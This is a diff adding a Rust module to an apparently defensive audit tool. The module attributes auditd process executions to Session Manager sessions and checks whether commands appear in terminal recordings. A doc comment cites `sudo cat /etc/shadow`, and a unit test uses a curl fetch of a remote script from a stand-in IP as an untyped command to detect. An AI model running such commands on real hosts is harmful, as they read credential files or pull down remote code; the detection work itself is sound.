@@ -1,0 +1,347 @@
+//! Process trees: every program auditd saw start on a host, tied to the session that started it.
+//!
+//! A Session Manager transcript records what the terminal showed, not what ran; auditd records
+//! every `execve` with the process id and the parent's. Session Manager shells have no login
+//! uid (`auid` is unset), so auditd alone cannot say whose they are, but the agent starts
+//! `ssm-session-worker <session id>` for every session and every process of the session descends
+//! from it. So each exec walks to its parent (the latest exec of the parent's pid before it, on
+//! the same instance), and takes the parent's session:
+//!
+//! - `ssm-session-worker SESSION` is the root of SESSION;
+//! - an exec whose parent is known takes the parent's session, and the parent's command line;
+//! - an exec whose parent never exec'd (a subshell forked without exec) but whose own pid did
+//!   earlier (`exec`, a shell replacing itself) keeps that process's session;
+//! - what is left is attributed by the host correlation ([`crate::correlate`]): an sshd login's
+//!   OS user on its instance in its window (SSH through Session Manager, EC2 Instance Connect,
+//!   Entra ID SSH), which then passes on to its descendants the next time.
+//!
+//! A pid is reused once its process exits, which auditd does not record without a rule on
+//! `exit`: the latest exec of a pid is taken as the live process, and a parent older than
+//! [`MAX_PARENT_AGE`] is not followed.
+
+use std::collections::HashMap;
+
+use auditq_model::{Command, HostEvent, Timestamp};
+use chrono::Duration;
+
+use crate::correlate::OPEN_SESSION_SPAN;
+
+/// How old a parent may be: a session's longest assumed span.
+pub const MAX_PARENT_AGE: i64 = OPEN_SESSION_SPAN;
+
+/// The session id `ssm-session-worker` was started for, from its command line.
+pub fn session_worker(cmd: &str) -> Option<&str> {
+    let mut words = cmd.split_whitespace();
+    let program = words.next()?;
+    if program.rsplit('/').next() != Some("ssm-session-worker") {
+        return None;
+    }
+    words
+        .next()
+        .map(|id| id.trim_matches(['\'', '"']))
+        .filter(|id| !id.is_empty())
+}
+
+/// Whether a host event is a program started (an auditd `execve` that succeeded).
+pub fn is_exec(event: &HostEvent) -> bool {
+    event.program == "auditd"
+        && event.action == "exec"
+        && event.pid.is_some()
+        && event.outcome.as_deref() != Some("failure")
+}
+
+/// A process as the tree knows it.
+#[derive(Debug, Clone)]
+struct Process {
+    time: Timestamp,
+    session_id: Option<String>,
+    cmd: Option<String>,
+}
+
+/// What the walk found for one exec of the batch.
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct Lineage {
+    /// The session it belongs to, when found.
+    pub session_id: Option<String>,
+    /// The command line of its parent, when the parent's exec is known.
+    pub parent_cmd: Option<String>,
+}
+
+/// Walks the batch's execs (in `host`) to their sessions, with `known` (stored execs on the same
+/// instances, attributed or not) as possible ancestors. Sets `session_id` of the execs it ties
+/// to a session (those already set keep theirs) and returns each exec's lineage by index.
+pub fn attribute(host: &mut [HostEvent], known: &[HostEvent]) -> HashMap<usize, Lineage> {
+    let max_age = Duration::seconds(MAX_PARENT_AGE);
+    // (instance, pid) -> its execs, oldest first.
+    let mut table: HashMap<(String, i64), Vec<Process>> = HashMap::new();
+    let place = |e: &HostEvent| e.target.clone().or(e.host.clone()).unwrap_or_default();
+    for event in known.iter().filter(|e| is_exec(e)) {
+        if let Some(pid) = event.pid {
+            table.entry((place(event), pid)).or_default().push(Process {
+                time: event.time,
+                session_id: event.session_id.clone(),
+                cmd: event.cmd.clone(),
+            });
+        }
+    }
+    for processes in table.values_mut() {
+        processes.sort_by_key(|p| p.time);
+    }
+    let latest = |table: &HashMap<(String, i64), Vec<Process>>, key: &(String, i64), at| {
+        table.get(key).and_then(|processes: &Vec<Process>| {
+            processes
+                .iter()
+                .rev()
+                .find(|p| p.time <= at && at - p.time <= max_age)
+                .cloned()
+        })
+    };
+
+    let mut order: Vec<usize> = (0..host.len()).filter(|&i| is_exec(&host[i])).collect();
+    // Parents before children: by time, then by auditd's serial order as read.
+    order.sort_by_key(|&i| (host[i].time, i));
+    let mut found = HashMap::new();
+    for i in order {
+        let event = &host[i];
+        let at = event.time;
+        let here = place(event);
+        let pid = event.pid.unwrap_or_default();
+        let parent = event
+            .ppid
+            .and_then(|ppid| latest(&table, &(here.clone(), ppid), at));
+        let itself = latest(&table, &(here.clone(), pid), at);
+        let root = event.cmd.as_deref().and_then(session_worker);
+        let session_id = event
+            .session_id
+            .clone()
+            .or(root.map(str::to_string))
+            .or(parent.as_ref().and_then(|p| p.session_id.clone()))
+            .or(itself.as_ref().and_then(|p| p.session_id.clone()));
+        let lineage = Lineage {
+            session_id: session_id.clone(),
+            parent_cmd: parent.and_then(|p| p.cmd),
+        };
+        let processes = table.entry((here, pid)).or_default();
+        let position = processes.partition_point(|p| p.time <= at);
+        processes.insert(
+            position,
+            Process {
+                time: at,
+                session_id: session_id.clone(),
+                cmd: event.cmd.clone(),
+            },
+        );
+        host[i].session_id = session_id;
+        found.insert(i, lineage);
+    }
+    found
+}
+
+/// Whether rules already saw what an exec did as another row: a line the session's recording
+/// shows (the typed line was seen), or the program `sudo`, `su -c`, `env` or `timeout` ran for
+/// its parent (`cat /etc/shadow` below `sudo cat /etc/shadow`). One act, one alert: the live
+/// pipeline and `auditq rules scan` both leave such rows out of what rules see.
+pub fn repeats_an_act(command: &Command) -> bool {
+    command.source == "auditd"
+        && (command.seen_in_transcript == Some(true)
+            || command
+                .parent_cmd
+                .as_deref()
+                .is_some_and(|parent| parent.ends_with(&format!(" {}", command.cmd))))
+}
+
+/// Whether a command line the kernel ran shows in what the session's terminal recorded: its
+/// program (for an interpreter running a script, the script) is a word of some recorded line.
+///
+/// Lenient on purpose: a shell expands variables, globs and aliases before the kernel sees the
+/// arguments, so only the program's name is compared. A program that never shows in the
+/// recording was typed with echo off, came out of a decoded payload, or ran from a script.
+pub fn seen_in(cmd: &str, recorded: &[&str]) -> bool {
+    let words: Vec<&str> = cmd.split_whitespace().map(unquoted).collect();
+    let Some(first) = words.first() else {
+        return true;
+    };
+    let mut names = vec![base(first)];
+    if is_interpreter(base(first))
+        && let Some(script) = words.iter().skip(1).find(|w| !w.starts_with('-'))
+    {
+        names.push(base(script));
+    }
+    recorded.iter().any(|line| {
+        line.split(|c: char| c.is_whitespace() || "|;&()`$<>".contains(c))
+            .map(unquoted)
+            .any(|word| names.contains(&base(word)))
+    })
+}
+
+fn unquoted(word: &str) -> &str {
+    word.trim_matches(['\'', '"'])
+}
+
+fn base(path: &str) -> &str {
+    path.rsplit('/')
+        .next()
+        .unwrap_or(path)
+        .trim_start_matches('-')
+}
+
+fn is_interpreter(name: &str) -> bool {
+    matches!(
+        name,
+        "sh" | "bash"
+            | "dash"
+            | "zsh"
+            | "ksh"
+            | "fish"
+            | "python"
+            | "python3"
+            | "perl"
+            | "ruby"
+            | "node"
+            | "php"
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn at(text: &str) -> Timestamp {
+        crate::time::parse_rfc3339(text).unwrap_or_else(|| panic!("{text}"))
+    }
+
+    fn exec(time: &str, pid: i64, ppid: i64, cmd: &str) -> HostEvent {
+        HostEvent {
+            event_id: format!("{time}-{pid}"),
+            time: at(time),
+            date: at(time).date_naive(),
+            user: None,
+            run_as: None,
+            host: Some("ip-10-0-1-11".into()),
+            target: Some("i-0a1b2c3d4e5f60711".into()),
+            source_ip: None,
+            program: "auditd".into(),
+            action: "exec".into(),
+            outcome: Some("success".into()),
+            cmd: Some(cmd.into()),
+            raw: String::new(),
+            origin: "audit.log".into(),
+            pid: Some(pid),
+            ppid: Some(ppid),
+            audit_session: None,
+            exe: None,
+            tty: None,
+            cwd: None,
+            auth: None,
+            key: None,
+            reason: None,
+            audit_key: None,
+            session_id: None,
+        }
+    }
+
+    #[test]
+    fn every_descendant_of_a_session_worker_is_the_session_s() {
+        let mut host = vec![
+            exec(
+                "2026-10-05T09:12:03Z",
+                3100,
+                1850,
+                "/usr/bin/ssm-session-worker alice-0a7f 'i-0a1b'",
+            ),
+            exec("2026-10-05T09:12:04Z", 3101, 3100, "bash"),
+            exec("2026-10-05T09:13:02Z", 3130, 3101, "sudo su -"),
+            exec("2026-10-05T09:13:02Z", 3131, 3130, "su -"),
+            exec("2026-10-05T09:13:02Z", 3132, 3131, "-bash"),
+            exec(
+                "2026-10-05T09:13:40Z",
+                3140,
+                3132,
+                "tail -n 20 /var/log/secure",
+            ),
+            // A daemon's exec on the same host at the same time: no session.
+            exec(
+                "2026-10-05T09:13:41Z",
+                3141,
+                1,
+                "/usr/sbin/logrotate /etc/logrotate.conf",
+            ),
+        ];
+        let lineage = attribute(&mut host, &[]);
+        let sessions: Vec<Option<&str>> = host.iter().map(|e| e.session_id.as_deref()).collect();
+        assert_eq!(
+            sessions,
+            [Some("alice-0a7f"); 6]
+                .into_iter()
+                .chain([None])
+                .collect::<Vec<_>>()
+        );
+        assert_eq!(lineage[&5].parent_cmd.as_deref(), Some("-bash"));
+        assert_eq!(lineage[&0].parent_cmd, None);
+    }
+
+    #[test]
+    fn parents_stored_by_an_earlier_batch_count_and_a_reused_pid_is_the_latest_process() {
+        let mut stored = vec![
+            exec(
+                "2026-10-05T09:12:03Z",
+                3100,
+                1850,
+                "ssm-session-worker alice-0a7f",
+            ),
+            exec("2026-10-05T09:12:04Z", 3101, 3100, "bash"),
+            // pid 3101 reused later by another session's shell.
+            exec("2026-10-05T11:00:04Z", 3101, 4100, "bash"),
+        ];
+        stored[0].session_id = Some("alice-0a7f".into());
+        stored[1].session_id = Some("alice-0a7f".into());
+        stored[2].session_id = Some("bob-1234".into());
+        let mut host = vec![
+            exec("2026-10-05T09:20:00Z", 3200, 3101, "id"),
+            exec("2026-10-05T11:05:00Z", 3300, 3101, "id"),
+            // A subshell forked without exec: its parent never exec'd, but it did itself
+            // earlier (`exec id` replacing the shell is the same pid).
+            exec("2026-10-05T09:21:00Z", 3101, 9999, "id"),
+        ];
+        attribute(&mut host, &stored);
+        let sessions: Vec<Option<&str>> = host.iter().map(|e| e.session_id.as_deref()).collect();
+        assert_eq!(
+            sessions,
+            [Some("alice-0a7f"), Some("bob-1234"), Some("alice-0a7f")]
+        );
+
+        // Too old a parent is not followed.
+        let mut late = vec![exec("2026-10-06T09:20:00Z", 3201, 3100, "id")];
+        attribute(&mut late, &stored);
+        assert_eq!(late[0].session_id, None);
+    }
+
+    #[test]
+    fn session_worker_command_lines() {
+        assert_eq!(
+            session_worker("/usr/bin/ssm-session-worker alice-0a7f3c9e1b2d4f601 i-0a1b"),
+            Some("alice-0a7f3c9e1b2d4f601")
+        );
+        assert_eq!(session_worker("ssm-session-worker"), None);
+        assert_eq!(session_worker("/usr/bin/ssm-agent-worker"), None);
+        assert_eq!(session_worker("grep ssm-session-worker x"), None);
+    }
+
+    #[test]
+    fn what_the_recording_shows() {
+        let typed = [
+            "sudo su -",
+            "tail -n 20 /var/log/secure",
+            "./deploy.sh --fast",
+        ];
+        assert!(seen_in("sudo su -", &typed));
+        assert!(seen_in("su -", &typed));
+        assert!(seen_in("/usr/bin/tail -n 20 /var/log/secure", &typed));
+        // An interpreter the kernel started for a script that was typed.
+        assert!(seen_in("/bin/bash ./deploy.sh --fast", &typed));
+        // What the script ran, and what was typed blind.
+        assert!(!seen_in("curl -s http://198.51.100.250/i.sh", &typed));
+        assert!(!seen_in("bash", &typed));
+        assert!(!seen_in("tail", &[]));
+    }
+}
